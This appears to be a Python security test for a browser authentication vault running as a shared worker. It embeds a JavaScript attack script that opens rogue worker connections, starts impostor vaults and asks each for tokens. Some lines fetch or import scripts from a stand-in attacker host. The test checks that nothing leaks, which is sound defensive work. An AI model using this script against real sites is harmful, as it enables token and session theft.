"""A script opens its own connections to the running vault, and starts vaults of its own from the same file, under other
names and addresses and in the page's own realm, and asks all of them for tokens.
"""

from tests.attacks.speech import ADDRESS, WORKERS, said

SCRIPT = said(
    ADDRESS,
    WORKERS,
    """
  const url = new URL(__GOSSAMER__.settings.vault, location.href).href, heard = [];
  const talk = async (port) => {
    port.onmessage = ({ data }) => heard.push(evil.write(data));
    port.onmessageerror = (event) => heard.push(event.type);
    let id = 0;
    const say = (op, more) => port.postMessage([JSON.stringify({ v: 1, id: ++id, op, ...more })]);
    say("status"); say("log"); say("fetch", { api: "billing", path: "/invoices", method: "GET", headers: {} });
    say("login", { mode: "popup", params: {}, return_to: "/", api: "" });
    for (const ticket of ["", "own", "0".repeat(32)]) { say("cancel", { ticket }); say("outcome", { ticket }); }
    say("arrived", { handle: "0".repeat(32) });
  };
  const attempt = async (make) => {
    try { await talk(make()); } catch (error) { heard.push(String(error)); }
  };
  const options = { name: "gossamer-vault", type: "module", extendedLifetime: true };
  for (const realm of [frame.contentWindow, globalThis]) {
    await attempt(() => new realm.SharedWorker(allowed(url), options).port);
    await attempt(() => new realm.SharedWorker(allowed(url), { ...options, name: "other" }).port);
    await attempt(() => new realm.SharedWorker(allowed(url + "?x=1#y"), options).port);
    await attempt(() => new realm.Worker(allowed(url), { type: "module", name: known.evil }));
    for (const script of document.scripts) if (script.src) await attempt(() => new realm.Worker(allowed(script.src)));
    for (const text of ["postMessage(1)", `fetch("${known.evil}/worker")`, `importScripts("${known.evil}/worker.js")`]) {
      const blob = URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
      await attempt(() => new realm.Worker(allowed(blob)));
      await attempt(() => new realm.SharedWorker(allowed(blob)).port);
      await attempt(() => new realm.Worker(allowed("data:text/javascript," + text)));
    }
    await attempt(() => new realm.Worker(allowed(known.evil + "/worker.js")));
  }
  await new Promise((done) => setTimeout(done, 8000));
  try { heard.push(evil.write(await import(url), 3)); } catch (error) { heard.push(String(error)); }
  heard.push(evil.write(globalThis.__GOSSAMER__, 6));
  return heard;""",
)
REMAINS = "opens lines of its own to the vault, which say no more than the page's line"


def act(scene):
    scene.subject.sign_in(scene.visitor)
    scene.run(SCRIPT)


def test_ours(assault, ours, visitor, collector):
    outcome = assault(ours)
    shared = "shared_worker" in visitor.supports  # otherwise every connection is to a vault without a session
    assert ("customer" if shared else "signed_out") in outcome.loot, "no line was opened"
    assert [heard.url for heard in collector.heard] == []
    assert outcome.stolen == ()
